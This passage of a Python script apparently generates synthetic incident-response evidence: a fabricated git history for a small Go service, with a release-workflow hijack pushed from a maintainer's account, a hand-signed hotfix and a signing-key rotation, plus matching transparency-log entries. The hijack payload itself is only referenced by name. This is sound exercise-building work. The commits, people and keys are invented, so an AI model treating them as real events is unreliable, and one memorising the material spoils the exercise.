            "Dockerfile": "FROM gcr.io/distroless/static\n"
                          "COPY widget /widget\nENTRYPOINT [\"/widget\"]\n",
            "go.mod": "module github.com/acme/widget\n\ngo 1.22\n",
            "cmd/widget/main.go": MAIN_GO.format(
                body="\tlog.Fatal(server.ListenAndServe(cfg))\n"),
            "internal/server/server.go": server_go([]),
            "internal/config/config.go": "package config\n",
            ".github/workflows/ci.yml": ci("v4.2.0"),
            ".github/workflows/release.yml": rel("v4.2.0"),
            "scripts/build.sh": BUILD_SH.format(flags=""),
            "scripts/notify.sh": "#!/bin/sh\n# Posts the release to the "
                                 "release channel.\nset -eu\ncurl -sS -d "
                                 "\"text=widget $1 released\" "
                                 "\"$RELEASE_WEBHOOK\"\n",
            "cosign.pub": KMS_OLD.pem(),
            "CHANGELOG.md": changelog(cl[1:])})
        r.commit(MC, "2026-08-18T11:40:02+02:00", "Release v2.2.0",
                 {"CHANGELOG.md": changelog(cl)})
        r.tag("v2.2.0", MC, "2026-08-18T11:45:00+02:00", "widget v2.2.0")

        feats = []
        r.commit(MC, "2026-09-02T10:14:37+02:00", "server: add --listen flag",
                 {"cmd/widget/main.go": MAIN_GO.format(
                     body="\tlog.Fatal(server.ListenAndServe(cfg, "
                          "cfg.Listen))\n")})
        r.commit(AP, "2026-09-04T16:21:09+05:30",
                 "config: read WIDGET_* environment variables",
                 {"internal/config/config.go":
                  "package config\n\n// Prefix of the variables read.\n"
                  "const envPrefix = \"WIDGET_\"\n"})
        br = "dependabot/go_modules/golang.org/x/net-0.29.0"
        r.git("checkout", "-q", "-b", br)
        r.commit(BOT, "2026-09-09T04:12:55+00:00",
                 "Bump golang.org/x/net from 0.28.0 to 0.29.0",
                 {"go.mod": "module github.com/acme/widget\n\ngo 1.22\n\n"
                  "require golang.org/x/net v0.29.0\n",
                  "go.sum": "golang.org/x/net v0.29.0 h1:5ORfpBpCs4HzDYoodCDBb"
                            "wHzdR5UrLBZ3sOnUJmFoHo=\n"})
        r.git("checkout", "-q", "main")
        r.merge(br, "Merge pull request #398 from acme/%s\n\nBump "
                "golang.org/x/net from 0.28.0 to 0.29.0" % br, MC,
                "2026-09-10T09:03:18+02:00")
        feats.append("healthz")
        r.commit(DK, "2026-09-15T14:48:30+02:00",
                 "server: add /healthz endpoint",
                 {"internal/server/server.go": server_go(feats),
                  "internal/server/server_test.go":
                  "package server\n\nimport \"testing\"\n\n"
                  "func TestHealthz(t *testing.T) {}\n"})
        r.commit(JL, "2026-09-22T11:05:52+02:00", "ci: cache Go modules",
                 {".github/workflows/ci.yml": ci(
                     "v4.2.0", "\n          cache: true")})
        r.commit(AP, "2026-09-29T18:33:14+05:30",
                 "config: fix race in reload",
                 {"internal/config/config.go": cfg})
        r.commit(DK, "2026-10-05T17:20:03+02:00",
                 "docs: document the metrics endpoint",
                 {"README.md": "# widget\n\nA small HTTP service.\n\n"
                  "Metrics are served on /metrics.\n"})
        cl.insert(0, ("v2.3.0", ["--listen flag", "/healthz endpoint",
                                 "WIDGET_* environment variables"]))
        r.commit(MC, "2026-10-06T15:55:12+02:00", "Release v2.3.0",
                 {"CHANGELOG.md": changelog(cl)})
        r.tag("v2.3.0", MC, "2026-10-06T16:02:00+02:00", "widget v2.3.0")

        r.git("checkout", "-q", "-b", "feature/metrics")
        feats.append("metrics")
        r.commit(AP, "2026-10-09T12:10:44+05:30",
                 "server: expose Prometheus metrics",
                 {"internal/server/server.go": server_go(feats)})
        r.commit(AP, "2026-10-12T15:02:27+05:30",
                 "server: test the metrics handler",
                 {"internal/server/server_test.go":
                  "package server\n\nimport \"testing\"\n\n"
                  "func TestHealthz(t *testing.T) {}\n\n"
                  "func TestMetrics(t *testing.T) {}\n"})
        r.git("checkout", "-q", "main")
        r.merge("feature/metrics", "Merge pull request #419 from "
                "acme/feature/metrics\n\nExpose Prometheus metrics", MC,
                "2026-10-13T10:41:09+02:00")
        r.commit(DK, "2026-10-14T09:37:18+02:00",
                 "scripts: build with -trimpath",
                 {"scripts/build.sh": BUILD_SH.format(flags="-trimpath ")})
        br = "dependabot/github_actions/actions/checkout-4.2.2"
        r.git("checkout", "-q", "-b", br)
        r.commit(BOT, "2026-10-16T04:31:02+00:00",
                 "Bump actions/checkout from 4.2.0 to 4.2.2",
                 {".github/workflows/ci.yml": ci(
                     "v4.2.2", "\n          cache: true"),
                  ".github/workflows/release.yml": rel("v4.2.2")})
        r.git("checkout", "-q", "main")
        r.merge(br, "Merge pull request #426 from acme/%s\n\nBump "
                "actions/checkout from 4.2.0 to 4.2.2" % br, MC,
                "2026-10-17T11:15:36+02:00")
        cl.insert(0, ("v2.4.0", ["Prometheus metrics on /metrics",
                                 "Reproducible builds (-trimpath)"]))
        r.commit(MC, "2026-10-20T15:24:40+02:00", "Release v2.4.0",
                 {"CHANGELOG.md": changelog(cl)})
        r.tag("v2.4.0", MC, "2026-10-20T15:30:00+02:00", "widget v2.4.0")
        r.commit(DK, "2026-10-23T10:12:50+02:00",
                 "server: shut down gracefully on SIGTERM",
                 {"cmd/widget/main.go": MAIN_GO.format(
                     body="\tsrv := server.New(cfg)\n"
                          "\tlog.Fatal(srv.RunUntilSignal())\n")})
        r.commit(AP, "2026-10-28T13:45:01+05:30",
                 "config: fix nil dereference when the config file is "
                 "missing",
                 {"internal/config/config.go": cfg +
                  "\n// Missing config files are not an error.\n"})
        cl.insert(0, ("v2.4.1", ["Graceful shutdown",
                                 "Fix a crash without a config file"]))
        r.commit(MC, "2026-11-03T16:06:03+01:00", "Release v2.4.1",
                 {"CHANGELOG.md": changelog(cl)})
        r.tag("v2.4.1", MC, "2026-11-03T16:10:00+01:00", "widget v2.4.1")
        r.commit(DK, "2026-11-05T11:02:45+01:00",
                 "server: limit request body size to 1 MiB",
                 {"internal/server/limits.go":
                  "package server\n\nconst maxBody = 1 << 20\n"})

        # 2026-11-09: the hijack, pushed from Johan Lindqvist's account
        r.git("checkout", "-q", "-b", "ci-test")
        r.commit(JL, "2026-11-09T10:58:41+01:00",
                 "ci: test release pipeline on a branch",
                 {".github/workflows/release.yml": RELEASE_YML_HIJACK})
        r.git("checkout", "-q", "main")

        r.commit(AP, "2026-11-10T14:18:26+05:30",
                 "config: validate TLS settings at start-up",
                 {"internal/config/tls.go":
                  "package config\n\n// ValidateTLS checks the TLS "
                  "settings.\nfunc ValidateTLS() error { return nil }\n"})
        # 2026-11-12: hotfix v2.4.2, built and signed by hand (no CI run)
        r.commit(MC, "2026-11-12T16:58:02+01:00",
                 "config: don't crash on reload when the config file is a "
                 "symlink (#412)",
                 {"internal/config/reload.go":
                  "package config\n\nimport \"path/filepath\"\n\n"
                  "// resolve follows a symlinked config file.\n"
                  "func resolve(p string) (string, error) { return "
                  "filepath.EvalSymlinks(p) }\n"})
        cl.insert(0, ("v2.4.2", ["Fix a crash on reload with a symlinked "
                                 "config file (#412)"]))
        r.commit(MC, "2026-11-12T17:21:47+01:00", "Release v2.4.2",
                 {"CHANGELOG.md": changelog(cl)})
        r.tag("v2.4.2", MC, "2026-11-12T17:25:10+01:00", "widget v2.4.2")
        # after containment (2026-11-13) and the key rotation (11-14)
        r.commit(MC, "2026-11-13T14:12:07+01:00",
                 "ci: require the release environment to sign",
                 {".github/workflows/release.yml": rel(
                     "v4.2.2", "\n    environment: release")})
        r.commit(MC, "2026-11-14T09:40:18+01:00",
                 "release: new signing key (KMS key rotated)",
                 {"cosign.pub": KMS_NEW.pem()})
        feats.append("requestid")
        r.commit(AP, "2026-11-16T11:26:59+05:30",
                 "server: add request IDs to the access log",
                 {"internal/server/server.go": server_go(feats)})
        cl.insert(0, ("v2.5.0", ["Request IDs in the access log",
                                 "TLS settings validated at start-up",
                                 "Signed with the new release key"]))
        r.commit(MC, "2026-11-17T14:53:31+01:00", "Release v2.5.0",
                 {"CHANGELOG.md": changelog(cl)})
        r.tag("v2.5.0", MC, "2026-11-17T15:00:00+01:00", "widget v2.5.0")
        # merged pull-request branches are deleted on GitHub
        for b in ["dependabot/go_modules/golang.org/x/net-0.29.0",
                  "feature/metrics",
                  "dependabot/github_actions/actions/checkout-4.2.2"]:
            r.git("branch", "-q", "-D", b)
        commits = {}
        for t in ["v2.3.0", "v2.4.0", "v2.4.1", "v2.4.2", "v2.5.0",
                  "ci-test"]:
            commits[t] = r.git("rev-parse", t + "^{commit}").strip()

        # the responder's clone, and the documented export
        clone = os.path.join(tmp, "clone")
        subprocess.run(["git", "clone", "-q", "--no-local", src, clone],
                       env=r.env, check=True)
        out = subprocess.run(["git"] + LOG_ARGS, cwd=clone, env=r.env,
                             check=True, stdout=subprocess.PIPE).stdout
    finally:
        shutil.rmtree(tmp)
    if os.path.isdir(OUT_GIT):
        shutil.rmtree(OUT_GIT)
    os.makedirs(OUT_GIT)
    with open(os.path.join(OUT_GIT, "acme-widget.gitlog"), "wb") as f:
        f.write(b"# repo: acme/widget\n" + out)
    return commits, out.count(b"\x1e")


def main():
    if not os.path.isdir(os.path.join("samples", "evidence")):
        sys.exit("run from the repository root")
    commits, ncommits = gen_git()
    entries = gen_rekor(commits)
    print("old KMS key (stand-in) spki-sha256:%s" % KMS_OLD.spki_sha256)
    print("new KMS key (stand-in) spki-sha256:%s" % KMS_NEW.spki_sha256)
    print("log id %s, %d entries:" % (LOG_ID.hex(), len(entries)))
    for e in entries:
        print("  %s %s %-16s %-26s %s" % (
            datetime.datetime.fromtimestamp(
                e.integrated, datetime.timezone.utc).strftime(
                "%Y-%m-%dT%H:%M:%SZ"), e.uuid[:16], e.label,
            e.artifact or "-", e.digest))
    print("git: %d commits; %s" % (ncommits, ", ".join(
        "%s %s" % (k, v) for k, v in sorted(commits.items()))))


if __name__ == "__main__":
    main()
